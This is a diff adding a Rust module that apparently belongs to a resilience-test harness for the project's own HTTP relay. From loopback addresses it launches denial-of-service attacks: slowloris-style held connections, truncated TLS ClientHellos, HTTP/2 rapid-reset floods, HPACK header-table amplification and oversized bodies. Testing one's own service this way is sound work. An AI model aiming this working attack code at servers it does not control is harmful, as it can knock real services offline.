@@ -1,0 +1,350 @@
+//! The attacks.
+
+use std::fmt;
+use std::net::{Ipv4Addr, SocketAddr};
+use std::path::Path;
+use std::str::FromStr;
+use std::sync::Arc;
+
+use anyhow::{Context, bail};
+use rustls::ClientConfig;
+use rustls::pki_types::ServerName;
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::net::{TcpSocket, TcpStream};
+use tokio::task::JoinSet;
+use tokio_rustls::TlsConnector;
+use tokio_rustls::client::TlsStream;
+
+use crate::ringcentral::Place;
+use crate::tls;
+
+/// Addresses that our own attackers call from: `127.0.0.2` and those after it.
+const ADDRESSES: usize = 49;
+
+/// Connections that the slow programs hold each. Their limit would be that of one address, and room is left for the
+/// handshakes that are measured.
+const TOOL_CONNECTIONS: &str = "40";
+
+/// Streams that an HTTP/2 connection opens: what the relay allows.
+const STREAMS: u32 = 128;
+
+/// An attack.
+#[derive(Debug, Clone, Copy)]
+pub enum Attack {
+    /// `slowhttptest -H`: heads that do not end.
+    SlowHeaders,
+    /// `slowhttptest -B`: bodies that do not end.
+    SlowBodies,
+    /// `slowhttptest -X`: answers that are not read.
+    SlowRead,
+    /// `h2load`: as many requests over HTTP/2 as go.
+    H2load,
+    /// So many connections from many addresses, each holding the most that it may.
+    Held {
+        /// How many.
+        connections: usize,
+    },
+    /// HTTP/2 streams that are opened and reset at once.
+    Resets,
+    /// Bodies of 16 MiB that take long to look at.
+    Bodies,
+}
+
+impl fmt::Display for Attack {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::SlowHeaders => f.write_str("slowhttptest -H"),
+            Self::SlowBodies => f.write_str("slowhttptest -B"),
+            Self::SlowRead => f.write_str("slowhttptest -X"),
+            Self::H2load => f.write_str("h2load"),
+            Self::Held { connections } => write!(f, "{connections} held"),
+            Self::Resets => f.write_str("rapid resets"),
+            Self::Bodies => f.write_str("16 MiB bodies"),
+        }
+    }
+}
+
+impl FromStr for Attack {
+    type Err = anyhow::Error;
+
+    fn from_str(text: &str) -> anyhow::Result<Self> {
+        Ok(match text {
+            "resets" => Self::Resets,
+            "bodies" => Self::Bodies,
+            held => match held.strip_prefix("held-").map(str::parse) {
+                Some(Ok(connections)) => Self::Held { connections },
+                _ => bail!("not an attack of our own: {text}"),
+            },
+        })
+    }
+}
+
+impl Attack {
+    pub(super) fn word(&self) -> String {
+        match self {
+            Self::Held { connections } => format!("held-{connections}"),
+            Self::Resets => "resets".to_owned(),
+            _ => "bodies".to_owned(),
+        }
+    }
+
+    /// Returns the command line of a program that attacks, `None` for an attack of our own.
+    pub(super) fn arguments(&self, url: &str, seconds: &str) -> Option<Vec<String>> {
+        let slow = |mode: &str| {
+            format!(
+                "slowhttptest {mode} -c {TOOL_CONNECTIONS} -r 20 -l {seconds} -i 1 -v 0 -p 30 -u {url}"
+            )
+        };
+        let line = match self {
+            Self::SlowHeaders => slow("-H"),
+            Self::SlowBodies => slow("-B -s 65536 -t POST"),
+            Self::SlowRead => slow("-X -w 1 -y 16 -n 5 -z 1 -k 10"),
+            Self::H2load => format!("h2load -D {seconds} -c 8 -m 100 -t 1 {url}"),
+            Self::Held { .. } | Self::Resets | Self::Bodies => return None,
+        };
+        Some(line.split(' ').map(str::to_owned).collect())
+    }
+}
+
+/// Whom an attack is aimed at.
+#[derive(Debug, Clone)]
+pub(super) struct World {
+    address: SocketAddr,
+    place: Place,
+    http1: Arc<ClientConfig>,
+    http2: Arc<ClientConfig>,
+}
+
+impl World {
+    pub(super) fn new(address: SocketAddr, url: &str, ca: &Path) -> anyhow::Result<Self> {
+        Ok(Self {
+            address,
+            place: Place::of(url)?,
+            http1: tls::caller(ca, tls::HTTP1)?,
+            http2: tls::caller(ca, tls::HTTP2)?,
+        })
+    }
+
+    /// Attacks until it is dropped.
+    pub(super) async fn run(&self, attack: Attack) {
+        let mut attackers = JoinSet::new();
+        let (count, one): (usize, fn(Self, usize) -> _) = match attack {
+            Attack::Held { connections } => (connections, Self::hold),
+            Attack::Resets => (8, Self::reset),
+            _ => (4, Self::large),
+        };
+        for number in 0..count {
+            attackers.spawn(one(self.clone(), number));
+        }
+        while attackers.join_next().await.is_some() {}
+    }
+
+    /// Holds a connection in one of five ways, and another one when the relay has closed it.
+    fn hold(self, number: usize) -> futures_util::future::BoxFuture<'static, ()> {
+        Box::pin(async move {
+            loop {
+                // The relay's patience or ours is at an end; both are what is wanted.
+                drop(self.hold_one(number).await);
+                tokio::task::yield_now().await;
+            }
+        })
+    }
+
+    async fn hold_one(&self, number: usize) -> anyhow::Result<()> {
+        match number % 5 {
+            0 => {
+                let mut tcp = self.dial(number).await?;
+                tcp.write_all(&half_a_hello()).await?;
+                to_end(tcp).await
+            }
+            1 => {
+                let mut stream = self.connect(number, &self.http1).await?;
+                stream.write_all(self.half_a_head().as_bytes()).await?;
+                stream.flush().await?;
+                to_end(stream).await
+            }
+            2 => {
+                let mut stream = self.connect(number, &self.http1).await?;
+                let whole = "GET /_ringtail/health HTTP/1.1\r\nhost: x\r\n\r\n";
+                stream.write_all(whole.as_bytes()).await?;
+                stream.write_all(self.half_a_head().as_bytes()).await?;
+                stream.flush().await?;
+                to_end(stream).await
+            }
+            3 => self.hold_streams(number, "/unknown").await,
+            _ => self.hold_streams(number, &self.place.path).await,
+        }
+    }
+
+    /// Opens as many streams as there may be, each with the largest head and a body that does not end.
+    async fn hold_streams(&self, number: usize, path: &str) -> anyhow::Result<()> {
+        let mut stream = self.connect(number, &self.http2).await?;
+        let mut wire = PREFACE.to_vec();
+        wire.extend(frame(SETTINGS, 0, 0, b""));
+        for id in (1..).step_by(2).take(STREAMS as usize) {
+            let mut block = post(path)?;
+            if id == 1 {
+                // Into the table of what was said before, from where one byte repeats it.
+                block.extend([0x40, 1, b'x', 0x7f]);
+                block.extend(hpack_rest(FIELD.len() - 127));
+                block.extend(FIELD);
+            }
+            block.extend([REPEAT; 14]);
+            wire.extend(frame(HEADERS, END_HEADERS, id, &block));
+            wire.extend(frame(DATA, 0, id, b"{"));
+        }
+        stream.write_all(&wire).await?;
+        stream.flush().await?;
+        to_end(stream).await
+    }
+
+    fn reset(self, number: usize) -> futures_util::future::BoxFuture<'static, ()> {
+        Box::pin(async move {
+            loop {
+                drop(self.reset_one(number).await);
+                tokio::task::yield_now().await;
+            }
+        })
+    }
+
+    /// Opens streams and resets them, a few at a time so that the relay does not end the connection at once.
+    async fn reset_one(&self, number: usize) -> anyhow::Result<()> {
+        let stream = self.connect(number, &self.http2).await?;
+        let (mut read, mut write) = tokio::io::split(stream);
+        let block = post(&self.place.path)?;
+        let write = async {
+            let mut wire = PREFACE.to_vec();
+            wire.extend(frame(SETTINGS, 0, 0, b""));
+            for id in (1_u32..).step_by(2).take(100_000) {
+                wire.extend(frame(HEADERS, END_HEADERS, id, &block));
+                wire.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
+                if id % 64 == 1 {
+                    write.write_all(&wire).await?;
+                    write.flush().await?;
+                    wire.clear();
+                    tokio::task::yield_now().await;
+                }
+            }
+            anyhow::Ok(())
+        };
+        let read = async {
+            let mut all = [0; 4096];
+            while read.read(&mut all).await? > 0 {}
+            anyhow::Ok(())
+        };
+        tokio::select! {
+            ended = write => ended,
+            ended = read => ended,
+        }
+    }
+
+    fn large(self, number: usize) -> futures_util::future::BoxFuture<'static, ()> {
+        Box::pin(async move {
+            let body = "[".repeat(16 * 1024 * 1024);
+            loop {
+                drop(self.large_one(number, &body).await);
+                tokio::task::yield_now().await;
+            }
+        })
+    }
+
+    async fn large_one(&self, number: usize, body: &str) -> anyhow::Result<()> {
+        let mut stream = self.connect(number, &self.http1).await?;
+        let head = format!(
+            "POST {} HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-type: application/json\r\n\
+             content-length: {}\r\n\r\n",
+            self.place.path,
+            body.len()
+        );
+        stream.write_all(head.as_bytes()).await?;
+        stream.write_all(body.as_bytes()).await?;
+        stream.flush().await?;
+        to_end(stream).await
+    }
+
+    fn half_a_head(&self) -> String {
+        let field = format!("x: {}\r\n", "x".repeat(1020));
+        format!("POST /unknown HTTP/1.1\r\nhost: x\r\n{}", field.repeat(30))
+    }
+
+    async fn dial(&self, number: usize) -> anyhow::Result<TcpStream> {
+        let last = u8::try_from(2 + number % ADDRESSES)?;
+        let socket = TcpSocket::new_v4()?;
+        socket.bind((Ipv4Addr::new(127, 0, 0, last), 0).into())?;
+        Ok(socket.connect(self.address).await?)
+    }
+
+    async fn connect(
+        &self,
+        number: usize,
+        config: &Arc<ClientConfig>,
+    ) -> anyhow::Result<TlsStream<TcpStream>> {
+        let tcp = self.dial(number).await?;
+        let name = ServerName::try_from(self.place.host.clone())?;
+        let connector = TlsConnector::from(Arc::clone(config));
+        Ok(connector.connect(name, tcp).await?)
+    }
+}
+
+/// Reads what the relay says and waits until it hangs up.
+async fn to_end(mut stream: impl tokio::io::AsyncRead + Unpin) -> anyhow::Result<()> {
+    let mut some = [0; 4096];
+    while stream.read(&mut some).await? > 0 {}
+    Ok(())
+}
+
+/// Returns records of TLS with a `ClientHello` that says it is longer than it gets.
+fn half_a_hello() -> Vec<u8> {
+    const RECORD: usize = 16 * 1024;
+    let mut wire = Vec::new();
+    for first in [true, false, false] {
+        wire.extend([22, 3, 1, (RECORD >> 8) as u8, 0]);
+        let mut record = vec![0; RECORD];
+        if first {
+            record[..4].copy_from_slice(&[1, 0, 0xff, 0]);
+        }
+        wire.extend(record);
+    }
+    wire
+}
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+const DATA: u8 = 0;
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const END_HEADERS: u8 = 4;
+const CANCEL: u32 = 8;
+
+/// HPACK's word for the field that was said last.
+const REPEAT: u8 = 0xbe;
+
+/// The value that is repeated: with name and overhead, as long as HPACK's table takes.
+const FIELD: &[u8] = &[b'y'; 4096 - 32 - 1];
+
+/// Writes what a number is beyond the seven bits that began it.
+fn hpack_rest(mut number: usize) -> Vec<u8> {
+    let mut rest = Vec::new();
+    while number >= 128 {
+        rest.push((number % 128 + 128) as u8);
+        number /= 128;
+    }
+    rest.push(number as u8);
+    rest
+}
+
+fn post(path: &str) -> anyhow::Result<Vec<u8>> {
+    let mut block = vec![0x83, 0x87, 1, 1, b'x', 4];
+    block.push(u8::try_from(path.len()).context("the path is too long")?);
+    block.extend(path.as_bytes());
+    Ok(block)
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX);
+    let mut frame = length.to_be_bytes()[1..].to_vec();
+    frame.extend([kind, flags]);
+    frame.extend(stream.to_be_bytes());
+    frame.extend(payload);
+    frame
+}
